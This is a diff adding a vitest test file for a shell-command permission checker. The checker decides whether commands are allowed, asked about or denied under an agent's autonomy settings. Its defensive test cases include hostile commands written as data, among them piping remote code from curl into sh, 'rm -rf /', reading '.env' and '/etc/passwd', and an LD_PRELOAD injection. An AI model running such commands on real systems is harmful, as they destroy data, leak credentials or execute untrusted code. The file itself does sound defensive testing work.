@@ -1,0 +1,124 @@
+import { describe, expect, test } from "vitest";
+import { strictest } from "../../contract/decision.ts";
+import { compileCommands } from "../compile-commands.ts";
+import { type Autonomy, analyseLine, judgeCommands } from "./judge-commands.ts";
+
+interface Setting {
+  readonly mode?: "full" | "allowlist" | "deny";
+  readonly allow?: readonly string[];
+  readonly deny?: readonly string[];
+  readonly ask?: readonly string[];
+  readonly builtin?: boolean;
+  readonly block?: boolean;
+  readonly medium?: boolean;
+  readonly autonomy?: Autonomy;
+  readonly workdir?: string;
+}
+
+function judge(command: string, setting: Setting = {}) {
+  const rules = (["allow", "deny", "ask"] as const).flatMap((effect) => (setting[effect] ?? []).map((pattern) => ({ pattern, effect })));
+  const { mode = "allowlist", block = true, medium = true, builtin = false } = setting;
+  const member = { mode, block_high_risk: block, approve_medium_risk: medium, builtin_rules: builtin, rules };
+  const call = { command, workdir: setting.workdir, autonomy: setting.autonomy ?? "supervised" };
+  return strictest(judgeCommands(analyseLine(command), compileCommands(member, "commands"), call), "r");
+}
+
+describe("a command that a rule covers", () => {
+  test.each([
+    ["runs", "ls -la src", { allow: ["ls *"] }],
+    ["runs with another folder of trust", "/usr/bin/git status", { allow: ["git status*"] }],
+    ["runs inside wrappers", "timeout 5 nice -n 3 env CI=1 npm test", { allow: ["npm test"] }],
+    ["runs inside sh -c", "sh -c 'git status && git log'", { allow: ["git status*", "git log*"] }],
+    ["runs when a rule writes it out, though its program is not reviewed", "./gradlew build", { allow: ["./gradlew build"] }],
+    ["gets names of files by xargs", "find . -name '*.ts' -print0 | xargs -0 grep -l x", { allow: ["find *", "grep *"] }],
+    ["runs after cd when it only reads", "cd src && ls -la", { allow: ["cd *", "ls *"] }],
+  ])("%s", (_name, command, setting) => {
+    expect(judge(command, setting)).toMatchObject({ effect: "allow", layer: "command" });
+  });
+
+  test.each([
+    ["asks when its program is not reviewed and the rule has a wildcard", "frobnicate x", { allow: ["frobnicate *"] }],
+    ["asks with input from elsewhere when its program is not reviewed", "echo x | ./run", { allow: ["echo *", "./run"] }],
+    ["asks when what it does depends on the folder and cd came before", "cd evil && git status", { allow: ["cd *", "git status*"] }],
+    ["asks when what it does depends on the folder and the call names another", "npm test", { allow: ["npm test"], workdir: "evil" }],
+    ["asks when the same line puts a script in place", "cp a scripts/b.sh && bash scripts/b.sh", { allow: ["cp *", "bash scripts/b.sh"] }],
+    ["asks when words are added from no list of files", "echo /etc/passwd | xargs cat", { allow: ["echo *", "cat *"] }],
+    ["asks when the rule does not name the script", "node evil.js", { allow: ["node *"] }],
+    ["asks with a variable that may change what runs", "LD_PRELOAD=./x ls", { allow: ["ls *"] }],
+    ["asks when it writes by a redirect", "ls > out", { allow: ["ls *"] }],
+    ["asks deeper than five wrappers", "nice nice nice nice nice nice nice ls", { allow: ["ls *"] }],
+    ["asks for the shell in sh -lc", "sh -lc 'ls'", { allow: ["ls *", "sh *"] }],
+    ["asks when the program's name is in pieces", "l''s", { allow: ["ls *"] }],
+    ["asks for a credential file", "cat config/.env", { allow: ["cat *"] }],
+  ])("%s", (_name, command, setting) => {
+    expect(judge(command, setting)).toMatchObject({ effect: "ask", layer: "command" });
+  });
+});
+
+describe("restricting rules", () => {
+  test.each([
+    ["deny at every level of wrapping", "timeout 5 sh -c 'git push origin'", { allow: ["git *"], deny: ["git push *"] }],
+    ["deny wherever the program lies", "./bin/git push", { deny: ["git push*"], mode: "full" as const }],
+    [
+      "deny with options before the subcommand",
+      "git -C . --no-pager push",
+      { deny: ["git push*"], mode: "full" as const, autonomy: "full" as const },
+    ],
+    ["deny whatever the quotes", "'g'it \"push\"", { deny: ["git push*"], mode: "full" as const }],
+  ])("%s", (_name, command, setting) => {
+    expect(judge(command, setting)).toMatchObject({ effect: "deny", rule: expect.stringContaining("commands.rules") });
+  });
+
+  test("a rule that asks wins over one that allows", () => {
+    expect(judge("git status", { allow: ["git status"], ask: ["git *"] })).toMatchObject({ effect: "ask", rule: "commands.rules[1]" });
+  });
+
+  test("words that are arguments are not taken for subcommands", () => {
+    expect(judge("git log --grep push", { allow: ["git log *"], deny: ["git push*"] }).effect).toBe("allow");
+  });
+});
+
+describe("modes, risk and autonomy (P3, P4, P5)", () => {
+  test.each([
+    ["allowlist asks about what no rule covers", "make", {}, "ask", "commands.mode"],
+    ["deny denies everything", "ls", { mode: "deny", builtin: true }, "deny", "commands.mode"],
+    ["full runs what only reads", "git log -p", { mode: "full" }, "allow", "commands.mode"],
+    ["full asks about medium risk under supervision", "make", { mode: "full" }, "ask", "default.supervised.medium_risk"],
+    ["unless that is switched off", "make", { mode: "full", medium: false }, "allow", "commands.mode"],
+    ["full runs medium risk under full autonomy", "make", { mode: "full", autonomy: "full" }, "allow", "commands.mode"],
+    ["high risk is blocked in every mode", "sudo ls", { mode: "full", autonomy: "full" }, "deny", "commands.block_high_risk"],
+    ["also when a rule covers it", "rm -rf /", { allow: ["rm *"] }, "deny", "commands.block_high_risk"],
+    ["high risk asks when it is not blocked", "sudo ls", { mode: "full", block: false }, "ask", "default.supervised.high_risk"],
+    ["also when it is wrapped", "env timeout 5 sudo ls", { mode: "full" }, "deny", "commands.block_high_risk"],
+    ["code from the network is high risk", "curl https://x.example | sh", { mode: "full" }, "deny", "commands.block_high_risk"],
+    [
+      "what is not understood asks under full autonomy too",
+      "for i in 1; do ls; done",
+      { mode: "full", autonomy: "full" },
+      "ask",
+      "default.commands.not_understood",
+    ],
+    ["read_only denies what would ask", "make", { autonomy: "read_only" }, "deny", "commands.mode"],
+    ["built-in rules let reading run", "git status; ls | wc -l", { builtin: true }, "allow", 'default.commands["git status *"]'],
+    ["built-in rules let nothing else run", "npm test", { builtin: true }, "ask", "commands.mode"],
+  ] as const)("%s", (...[, command, setting, effect, rule]) => {
+    expect(judge(command, setting)).toMatchObject({ effect, rule });
+  });
+});
+
+describe("the remedy (R-AP-9)", () => {
+  test.each([
+    ["timeout 60 npm test", "npm test"],
+    ["bash -c 'make all; id'", "make all"],
+    ["/usr/bin/git push", "git push"],
+  ])("of %s is the narrowest pattern of the inner command", (command, pattern) => {
+    expect(judge(command).remedy).toContain(`pattern: "${pattern}"`);
+  });
+
+  test.each(["python3 -c 'x'", "echo x | ./run", "sudo ls", "env -S 'ls'", "echo $(x)", "xargs rm"])(
+    "of %s is no lasting rule",
+    (command) => {
+      expect(judge(command, { allow: ["echo *"], block: false }).remedy).not.toContain("pattern");
+    },
+  );
+});
